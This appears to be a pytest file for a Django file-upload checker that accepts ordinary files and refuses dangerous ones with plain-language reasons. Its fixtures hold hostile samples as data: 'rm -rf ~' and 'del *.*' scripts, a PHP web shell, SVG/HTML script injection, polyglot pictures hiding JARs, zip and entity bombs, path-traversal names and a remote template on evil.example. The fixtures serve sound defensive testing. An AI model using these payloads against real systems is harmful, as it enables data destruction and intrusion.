"""What is taken and what is not, with files that really are what they seem or are not."""

import io
import zipfile

import pytest
from django.utils.translation import gettext

from projects.files.kinds import Refused
from projects.files.looking import look_into
from tests.projects.files import making
from tests.projects.files.making import (
    GOOD,
    gif,
    jpeg,
    m4a,
    mp3,
    office,
    open_document,
    packed,
    pdf,
    png,
)

KIND_OF = {"jpg": "jpeg", "txt": "text"}
PROGRAM = "This is a program, whatever it is called. We do not take programs."
INSIDE = "There is a program in this file. Take it out, or save the file as a PDF."
HIDDEN = "There is a second file hidden in this one. Save it again, or print it as a PDF."
MACRO = (
    "There is something in this file that can run by itself, such as a macro. "
    "Save it without that, or as a PDF."
)
BOMB = "This file would become far too large when it is opened. We do not take it."
NAMES = "The names of the parts in this file lead to other places. We do not take it."
NESTED = "There is another packed file in this one. We do not take it."
PASSWORD = "This file has a password. Save it without one, then choose it again."
WEB = "This is a web page or a drawing that can hold a program (HTML or SVG)."
BROKEN = "This file is broken. Open it on your computer, save it again, then choose that."
BROKEN_PICTURE = "This picture is broken. Open it on your computer and save it again."
DOTS = "This picture has too many dots. Save a smaller copy and choose that."
FETCHES = "This file fetches a part of itself from the web."
OTHER = "We do not take this kind of file."
ENDING = "The name of this file does not say what it is. Inside it is: "
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
TEMPLATE = (
    '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/attachedTemplate" Target="%s" TargetMode="External"/></Relationships>'
)
JAR = packed({"META-INF/MANIFEST.MF": "Main-Class: Evil", "Evil.class": "x"})


@pytest.mark.parametrize("name", GOOD)
def test_what_people_have_is_taken(name):
    ending = name.rsplit(".", 1)[1].lower()

    assert look_into(name, GOOD[name]) == KIND_OF.get(ending, ending)


BAD = {
    "nothing": ("notes.pdf", b"", "This file is empty."),
    # Programs
    "renamed ELF": ("notes.pdf", making.elf(), PROGRAM),
    "renamed EXE": ("picture.jpg", making.exe(), PROGRAM),
    "EXE by its name": ("setup.exe", making.exe(), PROGRAM),
    "script as text": ("notes.txt", b"#!/bin/sh\nrm -rf ~\n", PROGRAM),
    "script with a mark": ("notes.txt", b"\xef\xbb\xbf#!/bin/sh\nrm -rf ~\n", PROGRAM),
    "batch file": ("notes.csv", b"@echo off\r\ndel *.*\r\n", PROGRAM),
    "PHP": ("notes.txt", b"<?php system($_GET['c']);", PROGRAM),
    "Java": ("notes.pdf", b"\xca\xfe\xba\xbe\x00\x00\x00\x34", PROGRAM),
    "shortcut": ("notes.pdf", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60), PROGRAM),
    # Pages and drawings that run
    "SVG": ("drawing.svg", SVG, WEB),
    "SVG as PNG": ("drawing.png", SVG, WEB),
    "SVG behind its heading": ("a.svg", b'<?xml version="1.0"?>\n' + SVG, WEB),
    "HTML as text": ("notes.txt", b"<!DOCTYPE html><script>alert(1)</script>", WEB),
    "HTML as wide text": ("notes.txt", "<html>".encode("utf-16"), OTHER),
    # Two files in one
    "PDF and ZIP": ("notes.pdf", pdf() + JAR, HIDDEN),
    "PDF with a page before it": ("notes.pdf", pdf(before=b"<html><script>1</script>\n"), WEB),
    "PDF with a page in it": ("a.pdf", b"%PDF-1.4\n<html><script>x</script>" + pdf()[9:], HIDDEN),
    "PDF behind a picture": ("a.gif", gif(comment=b"%PDF-1.4"), HIDDEN),
    "PDF in a PDF": ("a.pdf", b"%PDF-1.4\n" + pdf(), HIDDEN),
    "PDF later in the file": ("a.pdf", b"\n" + pdf(), ENDING + "Plain text."),
    "GIF and JAR": ("a.gif", gif(after=JAR), HIDDEN),
    "JPEG and JAR": ("a.jpg", jpeg(after=JAR), HIDDEN),
    "JPEG and RAR": ("a.jpg", jpeg(after=b"Rar!\x1a\x07\x00" + bytes(30)), HIDDEN),
    "JPEG with PHP": ("a.jpg", jpeg(comment=b"<?php eval(1);"), HIDDEN),
    "JPEG with a script": ("a.jpg", jpeg(after=b"<script>alert(1)</script>"), HIDDEN),
    "PNG and ZIP": ("a.png", png(after=JAR), HIDDEN),
    "PNG and words": ("a.png", png(after=b"and more"), BROKEN_PICTURE),
    "GIF and JavaScript": ("a.gif", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", BROKEN_PICTURE),
    "MP3 and ZIP": ("a.mp3", mp3() + JAR, HIDDEN),
    "MP3 with a script": ("a.mp3", mp3(about=b"TIT2<script>alert(1)</script>"), HIDDEN),
    "text and ZIP": ("a.docx", b"hello" + office(), OTHER),
    "Word and ZIP": ("a.docx", office() + JAR, HIDDEN),
    "Word and words": ("a.docx", office() + b"x" * 30, HIDDEN),
    "Word and PDF": ("a.docx", office("docx", {"%PDF-1.4": "x"}), HIDDEN),
    # Packed files
    "ZIP": ("a.zip", packed({"a.txt": "x"}), "This is a folder of files (ZIP)."),
    "ZIP as Word": ("a.docx", packed({"a.txt": "x"}), "This is a folder of files (ZIP)."),
    "JAR as Word": ("a.docx", JAR, "This is a folder of files (ZIP)."),
    "bomb": ("a.docx", making.bomb(), BOMB),
    "bomb that lies": ("a.docx", making.lying_bomb(), BROKEN),
    "parts upon each other": ("a.docx", making.overlapping(), HIDDEN),
    "too many parts": (
        "a.docx", office("docx", {f"word/{n}.xml": "" for n in range(5_001)}), BOMB,
    ),
    "entities": (
        "a.docx",
        office("docx", {"word/x.xml": '<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><x/>'}),
        BOMB,
    ),
    "nested": ("a.docx", office("docx", {"word/media/a.zip": packed({"a": "x"})}), NESTED),
    "nested by its name": ("a.docx", office("docx", {"word/media/a.7z": "7z"}), NESTED),
    "nested twice": (
        "a.pptx",
        office("pptx", {"ppt/embeddings/a.xlsx": office(
            "xlsx", {"xl/embeddings/b.docx": office()})}),
        NESTED,
    ),
    "nested with a macro": (
        "a.pptx",
        office("pptx", {"ppt/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": "x"})}),
        MACRO,
    ),
    "up and away": ("a.docx", office("docx", {"../../etc/cron.d/x": "x"}), NAMES),
    "an absolute name": ("a.docx", office("docx", {"/etc/passwd": "x"}), NAMES),
    "a Windows name": ("a.docx", office("docx", {"C:/Windows/x": "x"}), NAMES),
    "back and away": ("a.docx", office("docx", {"word\\..\\..\\x": "x"}), NAMES),
    "a link": ("a.docx", making.link_inside(), NAMES),
    "one name twice": ("a.docx", office("docx", {"word/Document.xml": "x"}), NAMES),
    "macro": ("a.docx", office("docx", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), MACRO),
    "macro by its type": (
        "a.docx", office(main="ms-word.document.macroEnabled.main"), MACRO,
    ),
    "macro of OpenDocument": ("a.odt", open_document("odt", {"Basic/Standard/M.xml": "x"}), MACRO),
    "embedded object": ("a.docx", office("docx", {"word/embeddings/oleObject1.bin": "x"}), MACRO),
    "program in Word": ("a.docx", office("docx", {"word/media/image1.png": making.elf()}), INSIDE),
    "program by its name": ("a.docx", office("docx", {"word/media/run.bat": "x"}), INSIDE),
    "template from the web": (
        "a.docx",
        office("docx", {"word/_rels/settings.xml.rels": TEMPLATE % "https://evil.example/t.dotm"}),
        FETCHES,
    ),
    "password": ("a.docx", making.with_password(), PASSWORD),
    "password of OpenDocument": (
        "a.odt", open_document("odt", {"META-INF/manifest.xml": "<encryption-data/>"}), PASSWORD,
    ),
    "old Office": (
        "a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "This is an old kind of Office",
    ),
    "half a Word file": ("a.docx", office()[:-40], BROKEN),
    "half a PDF": ("a.pdf", pdf()[:-8], "This PDF does not end as it should."),
    # Pictures and sounds
    "100,000 dots wide": ("a.png", png(100_000, 1), DOTS),
    "too many dots": ("a.png", png(15_000, 15_000), DOTS),
    "too many dots in JPEG": ("a.jpg", jpeg(19_000, 19_000), DOTS),
    "too many dots in GIF": ("a.gif", gif(60_000, 60_000), DOTS),
    "no dots": ("a.png", png(0, 5), DOTS),
    "half a picture": ("a.jpg", jpeg()[:14], BROKEN_PICTURE),
    "film as sound": ("a.m4a", m4a(b"vide"), OTHER),
    "half a sound": ("a.m4a", m4a()[:-10], OTHER),
    "MP3 without sound": ("a.mp3", b"ID3\x03\x00\x00\x00\x00\x00\x04abcd" + bytes(40), OTHER),
    # Other things
    "letters nobody can read": ("a.txt", b"hello\x00\x01\x02", OTHER),
    "another kind": ("a.psd", b"8BPS\x00\x01" + bytes(40), OTHER),
    "PNG as JPEG": ("a.jpg", png(), ENDING + "PNG picture. Its name should end with .png."),
    "PDF as Word": ("a.docx", pdf(), ENDING + "PDF. Its name should end with .pdf."),
    "text as PDF": ("a.pdf", b"hello\n", ENDING + "Plain text. Its name should end with .txt."),
    "a script by its name": ("a.ps1", b"hello\n", ENDING + "Plain text."),
    "no ending": ("notes", pdf(), "The name of this file has no ending. Inside it is: PDF."),
}  # fmt: skip


@pytest.mark.parametrize("what", BAD)
def test_what_could_do_harm_is_refused_with_the_reason(what):
    name, content, said = BAD[what]
    with pytest.raises(Refused) as refused:
        look_into(name, content)

    assert str(refused.value.reason).startswith(said)


@pytest.mark.parametrize("name", GOOD)
def test_every_kind_with_a_program_behind_it_is_refused(name):
    """Text cannot hold one, because a program has signs that nobody can read."""
    with pytest.raises(Refused):
        look_into(name, GOOD[name] + JAR)


def test_a_template_of_the_own_network_is_no_reason_to_refuse():
    """Most Word files name the template they were made from; it lies on a computer nearby."""
    rels = {"word/_rels/settings.xml.rels": TEMPLATE % "file:///C:/Templates/Letter.dotx"}

    assert look_into("a.docx", office("docx", rels)) == "docx"


def test_two_ways_of_looking_have_to_agree(monkeypatch):
    """Were our own signature too wide, the second list would still refuse."""
    monkeypatch.setattr("projects.files.looking.pictures.told", lambda content: "webp")
    monkeypatch.setattr("projects.files.looking.pictures.check", lambda kind, content: None)
    with pytest.raises(Refused) as refused:
        look_into("a.webp", png())

    assert str(refused.value.reason).startswith(gettext("Two ways of looking into this file"))


def test_the_bombs_of_these_tests_are_bombs():
    assert len(making.bomb()) < 100_000
    with zipfile.ZipFile(io.BytesIO(making.bomb())) as archive:
        assert sum(member.file_size for member in archive.infolist()) > 60_000_000
